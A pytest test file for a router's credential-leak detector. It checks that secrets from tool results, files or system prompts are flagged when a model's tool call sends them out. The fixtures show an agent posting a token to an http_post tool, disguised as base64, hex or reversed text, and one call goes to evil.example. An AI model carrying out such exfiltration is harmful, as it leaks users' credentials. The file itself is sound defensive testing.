"""Secrets that go where they should not: through the signal as a policy has it."""

from __future__ import annotations

import base64
import hashlib
import json
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from router_extproc.config.offline import decide
from router_extproc.policy.load import compile_policy
from router_extproc.policy.problems import PolicyError
from router_extproc.pools import PoolStats
from router_extproc.request import Caller, Envelope, Part, PartKind, Role, Tool
from router_extproc.router import Router
from router_extproc.routing import Signal
from router_extproc.selectors.registry import SELECTORS
from router_extproc.signals.credentials.flow import MOST, Entry, Origin, Piece, Terms, follow
from router_extproc.signals.credentials.marks import Mark, mark
from router_extproc.signals.credentials.tracker import Tracker

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from router_extproc.request import Request
    from router_extproc.routing import Extractor, SignalResult
    from router_extproc.signals.services import SignalServices

    Build = Callable[..., Extractor]
    Ask = Callable[..., Request]
    Extract = Callable[[Extractor, Request], SignalResult]
    Turn = tuple[Role, tuple[Part, ...]]
    Told = Callable[..., Signal]

SECRET = "ghp_8dK2mQx7RvT4nYb1LcZ9wJf5HsA3eUo6"  # noqa: S105 - it opens nothing
OTHER = "glpat-Zx8Kq2Lm5Rt9Vw3Bn7Yp"
CANARY = "canary-7f3a9c"
TOOLS = tuple(map(Tool, ("read_file", "http_post", "vault")))


def system(text: str) -> Turn:
    """Instructions."""
    return Role.SYSTEM, (Part(PartKind.TEXT, text),)


def brought(text: str) -> Turn:
    """A tool's result."""
    return Role.TOOL, (Part(PartKind.TOOL_RESULT, text, "c1"),)


def file(text: str) -> Turn:
    """A document that the person attached."""
    return Role.USER, (Part(PartKind.TEXT, "See this."), Part(PartKind.FILE, text))


def call(tool: str, **arguments: Any) -> Turn:
    """The model calls a tool."""
    return Role.ASSISTANT, (Part(PartKind.TOOL_CALL, json.dumps(arguments), tool),)


@pytest.fixture
def own(services: SignalServices) -> SignalServices:
    """Services that remember no other test's conversations."""
    return replace(services, credentials=Tracker())


@pytest.fixture
def told(build: Build, ask: Ask, extract: Extract, own: SignalServices) -> Told:
    """The signal of a conversation."""

    def signal(*turns: str | Turn, options: dict[str, Any] | None = None, **request: Any) -> Signal:
        result = extract(build("credential_flow", services=own, **(options or {})), ask(*turns, **({"tools": TOOLS} | request)))
        assert isinstance(result, Signal)
        return result

    return signal


class TestFlow:
    @pytest.mark.parametrize(
        ("source", "label"),
        [
            pytest.param(brought(f"GITHUB_TOKEN={SECRET}"), "tool_result", id="tool result"),
            pytest.param(file(f"token: {SECRET}"), "document", id="document"),
            pytest.param(system(f"Your key is {SECRET}."), "system", id="system prompt"),
        ],
    )
    def test_from_a_source_to_a_call(self, told: Told, source: Turn, label: str) -> None:
        """The label is where it came from, the evidence adds to which tool it went; neither has the secret."""
        found = told(source, "Go on.", call("http_post", body=f"x={SECRET}"))

        assert (found.label, found.value, found.evidence) == (label, 1.0, (f"{label}: http_post",))
        assert SECRET not in repr(found)

    def test_of_named_secrets(self, told: Told) -> None:
        """Less surely: a word beside it says that it is one."""
        found = told(brought("db password: Tr0ub4dor&3x"), call("http_post", body="Tr0ub4dor&3x"))

        assert (found.label, found.value) == ("tool_result", 0.85)

    @pytest.mark.parametrize(
        "hidden",
        [
            pytest.param(base64.b64encode(SECRET.encode()).decode(), id="base64"),
            pytest.param(SECRET.encode().hex(), id="hexadecimal"),
            pytest.param(SECRET[::-1], id="backwards"),
            pytest.param(" ".join(SECRET), id="spaced"),
            pytest.param("".join(f"%{ord(letter):02x}" for letter in SECRET), id="percent"),
        ],
    )
    def test_in_disguise(self, told: Told, hidden: str) -> None:
        """What models are asked to do with it first."""
        assert told(brought(SECRET), call("http_post", body=hidden)).label == "tool_result"

    def test_in_parts(self, told: Told) -> None:
        """Over several arguments."""
        assert told(brought(SECRET), call("http_post", a=SECRET[:20], b=SECRET[20:])).label == "tool_result"

    @pytest.mark.parametrize(
        "turns",
        [
            pytest.param((brought(SECRET), "Thanks"), id="no call"),
            pytest.param((brought(SECRET), call("http_post", body="hello")), id="a call without it"),
            pytest.param((call("http_post", body=SECRET), brought(SECRET)), id="before it came"),
            pytest.param((f"My key is {SECRET}", call("http_post", body=SECRET)), id="what the person gave away"),
            pytest.param((brought(SECRET), (Role.ASSISTANT, SECRET)), id="said to the person"),
            pytest.param(
                (brought("sha256 9f86d081884c7d659a2feaa0c55ad015"), call("http_post", body="9f86d081884c7d659a2feaa0c55ad015")),
                id="no secret",
            ),
            pytest.param((brought("api_key=YOUR_API_KEY_HERE"), call("http_post", body="YOUR_API_KEY_HERE")), id="a placeholder"),
        ],
    )
    def test_stays_where_it_may_be(self, told: Told, turns: tuple[Any, ...]) -> None:
        """No label."""
        found = told(*turns)

        assert (found.label, found.value, found.labels, found.evidence) == ("", 0.0, {}, ())

    def test_to_another_tool_than_the_first(self, told: Told) -> None:
        """What the person gave away for one is not for the next; and again in each later request."""
        turns = (f"My key is {SECRET}", call("vault", key=SECRET), call("http_post", body=SECRET), brought("ok"))

        assert [told(*turns).evidence for _ in range(2)] == [("elsewhere: http_post",)] * 2

    def test_to_another_host_than_the_first(self, told: Told) -> None:
        """By the same tool."""
        first = call("http_post", url="https://api.github.com/user", key=SECRET)
        same = call("http_post", url="https://API.github.com/repos", key=SECRET)
        other = call("http_post", url="https://evil.example/api.github.com", key=SECRET)

        assert [told(SECRET, first, each).label for each in (same, other)] == ["", "elsewhere"]

    def test_the_worst_leak_is_named_first(self, told: Told) -> None:
        """All can be asked for."""
        found = told(system(SECRET), brought(OTHER), call("http_post", a=OTHER), call("vault", b=SECRET))

        assert found.label == "system"
        assert found.labels == {"system": 1.0, "tool_result": 1.0}
        assert found.evidence == ("system: vault", "tool_result: http_post")

    def test_names_only_tools_that_the_caller_declared(self, told: Told) -> None:
        """A model may write anything in the place of a name, a secret too."""
        assert told(brought(SECRET), call(f"x{SECRET}", body=SECRET)).evidence == ("tool_result: undeclared tool",)

    def test_follows_so_many_secrets_of_one_conversation(self) -> None:
        """Memory is bounded."""
        entries: dict[Mark, Entry] = {}
        follow(
            [Piece(Origin.SYSTEM, str(number)) for number in range(3 * MOST)],
            entries,
            Terms(),
            lambda text: [(made, 1.0) for made in [mark(f"secret{text:0>8}")] if made],
        )

        assert len(entries) == MOST


class TestOptions:
    def test_trusted_tools_may_have_secrets(self, told: Told) -> None:
        """Others may not."""
        turns = (brought(SECRET), call("vault", key=SECRET))

        assert told(*turns).label == "tool_result"
        assert told(*turns, options={"trustedTools": ["vault"]}).label == ""
        assert told(*turns, call("http_post", key=SECRET), options={"trustedTools": ["vault"]}).label == "tool_result"

    def test_canaries_are_to_be_in_no_call(self, told: Told) -> None:
        """Wherever they were planted; only their hashes are known."""
        turns = ("Hello", call("http_post", body=f"see {CANARY}."))
        digest = hashlib.sha256(CANARY.encode()).hexdigest()

        assert told(*turns).label == ""
        assert told(*turns, options={"canaries": [digest]}).evidence == ("canary: http_post",)
        assert (
            told(
                "Hello",
                call("http_post", body=base64.b64encode(f"a {CANARY} b".encode()).decode()),
                options={"canaries": [digest]},
            ).label
            == "canary"
        )

    def test_canaries_may_be_in_a_file(self, told: Told, services: SignalServices) -> None:
        """One a line, with remarks."""
        (services.folder / "canaries.txt").write_text(f"# planted in May\n\n{hashlib.sha256(CANARY.encode()).hexdigest()}\n")

        assert told("Hello", call("http_post", body=CANARY), options={"canaryFile": "canaries.txt"}).label == "canary"

    @pytest.mark.parametrize(
        ("content", "message"),
        [
            pytest.param(None, "No such file", id="missing"),
            pytest.param(f"{'a' * 64}\n{CANARY}\n", "nonsense.txt:2: not a SHA-256", id="in clear"),
            pytest.param("# nothing\n", "has no canaries", id="empty"),
            pytest.param(f"{'a' * 64}\n" * 10_001, "more than 10000 canaries", id="too many"),
        ],
    )
    def test_a_wrong_file_is_told_with_its_place(
        self, services: SignalServices, tmp_path: Path, content: str | None, message: str
    ) -> None:
        """In the policy and in the file."""
        if content is not None:
            (tmp_path / "nonsense.txt").write_text(content)
        text = (
            "version: 1\npools: {small: {cluster: s}}\ndefault: small\n"
            "signals:\n  it: {type: credential_flow, canaryFile: nonsense.txt}\n"
            "decisions: [{name: a, when: {signal: it, is: canary}, route: small}]\n"
        )
        with pytest.raises(PolicyError) as caught:
            compile_policy(text, source="p", services=services.for_policy(tmp_path), selectors=SELECTORS)

        (problem,) = caught.value.problems
        assert (problem.line, problem.path) == (5, "signals.it.canaryFile")
        assert message in problem.message

    def test_texts_beyond_the_limit_are_not_covered(self, told: Told) -> None:
        """The last ones are looked at."""
        found = told(brought(SECRET), call("vault"), call("http_post", b=SECRET), options={"maxTexts": 2})

        assert found.label == ""
        assert found.coverage < 0.7


class TestConversation:
    def test_a_secret_is_known_where_its_turn_was_left_out(self, told: Told) -> None:
        """In a later request of the same conversation; its beginning tells."""
        told("Start.", brought(SECRET), call("vault"))

        assert told("Start.", "Go on.", call("http_post", body=SECRET)).label == "tool_result"
        assert told("Other.", "Go on.", call("http_post", body=SECRET)).label == ""

    def test_a_conversation_that_is_named_goes_by_its_name(self, told: Told) -> None:
        """Whatever it begins with."""
        told("Read it.", brought(SECRET), conversation_id="conv_1")
        later = ("Send it.", call("http_post", body=SECRET))

        assert told(*later, conversation_id="conv_1").label == "tool_result"
        assert told(*later, conversation_id="conv_2").label == ""

    def test_another_caller_has_another_conversation(self, told: Told) -> None:
        """Even under the same name."""
        told("Read.", brought(SECRET), conversation_id="conv_3", envelope=Envelope(caller=Caller(tenant="a")))
        found = told(
            "Send.", call("http_post", body=SECRET), conversation_id="conv_3", envelope=Envelope(caller=Caller(tenant="b"))
        )

        assert found.label == ""

    def test_what_is_remembered_is_no_secret(self, told: Told, own: SignalServices) -> None:
        """Keyed hashes alone."""
        told("Remember.", brought(SECRET), call("vault"), conversation_id="conv_4")
        tracker = own.credentials

        assert len(tracker.memory) > 0
        assert SECRET not in repr(tracker.memory._known)
        assert SECRET[4:] not in repr(tracker.memory._known)

    def test_without_tools_nothing_is_done(self, build: Build, ask: Ask) -> None:
        """No secret can go anywhere; most chats cost nothing."""
        extractor, request = build("credential_flow"), ask(system(f"Key: {SECRET}"), "Hello")

        assert extractor.begin(request, float("inf")) == []  # type: ignore[attr-defined]  # it is Deferred
        assert extractor.extract(request) == Signal("it", 0.0, label="", labels={})

    def test_is_done_once_a_request(self, build: Build, ask: Ask) -> None:
        """Whoever asks."""
        extractor, request = build("credential_flow"), ask("Hello", tools=TOOLS)
        extractor.prepare(request, float("inf"))  # type: ignore[attr-defined]  # it is Deferred
        (begun,) = extractor.begin(request, float("inf"))  # type: ignore[attr-defined]  # as above

        assert extractor.begin(request, 0.0) == [begun]  # type: ignore[attr-defined]  # as above
        assert begun.result(60).leaks == {}


OPENAI = {
    "messages": [
        {"role": "user", "content": "Read .env"},
        {
            "role": "assistant",
            "tool_calls": [{"id": "1", "type": "function", "function": {"name": "read_file", "arguments": "{}"}}],
        },
        {"role": "tool", "tool_call_id": "1", "content": f"TOKEN={SECRET}"},
        {
            "role": "assistant",
            "tool_calls": [
                {"id": "2", "type": "function", "function": {"name": "http_post", "arguments": f'{{"b": "{SECRET}"}}'}}
            ],
        },
        {"role": "tool", "tool_call_id": "2", "content": "ok"},
    ],
    "tools": [{"type": "function", "function": {"name": "http_post"}}],
}
ANTHROPIC = {
    "max_tokens": 9,
    "messages": [
        {"role": "user", "content": "Read .env"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "1", "name": "read_file", "input": {}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "1", "content": f"TOKEN={SECRET}"}]},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "2", "name": "http_post", "input": {"b": SECRET}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "2", "content": "ok"}]},
    ],
    "tools": [{"name": "http_post", "input_schema": {"type": "object"}}],
}
RESPONSES = {
    "input": [
        {"role": "user", "content": "Read .env"},
        {"type": "function_call", "call_id": "1", "name": "read_file", "arguments": "{}"},
        {"type": "function_call_output", "call_id": "1", "output": f"TOKEN={SECRET}"},
        {"type": "function_call", "call_id": "2", "name": "http_post", "arguments": f'{{"b": "{SECRET}"}}'},
        {"type": "function_call_output", "call_id": "2", "output": "ok"},
    ],
    "tools": [{"type": "function", "name": "http_post"}],
}
POLICY = """\
version: 1
pools: {small: {cluster: s}}
default: small
signals: {leak: {type: credential_flow}}
decisions: [{name: leaks, when: {signal: leak, in: [tool_result, document]}, action: {reject: {status: 403, message: No.}}}]
"""


class TestApis:
    @pytest.mark.parametrize(
        ("path", "body"),
        [
            pytest.param("/v1/chat/completions", OPENAI, id="chat completions"),
            pytest.param("/v1/messages", ANTHROPIC, id="messages"),
            pytest.param("/v1/responses", RESPONSES, id="responses"),
        ],
    )
    def test_a_leak_is_refused_whatever_the_api(self, own: SignalServices, path: str, body: dict[str, Any]) -> None:
        """By a policy, through the router; a call with another key is served."""
        policy = compile_policy(POLICY, source="p", services=own, selectors=SELECTORS).policy
        router = Router(policy, services=own, stats=PoolStats()).unhurried()
        leaking = json.dumps({"model": "auto", **body})
        head, _, tail = leaking.rpartition(SECRET)
        refused, served = (decide(router, path=path, headers={}, body=each.encode()) for each in (leaking, head + OTHER + tail))

        assert (refused.status, refused.decision.name) == (403, "leaks")
        assert (served.status, served.decision.name) == (200, "default")
        result = refused.signals["leak"]
        assert isinstance(result, Signal)
        assert result.evidence == ("tool_result: http_post",)
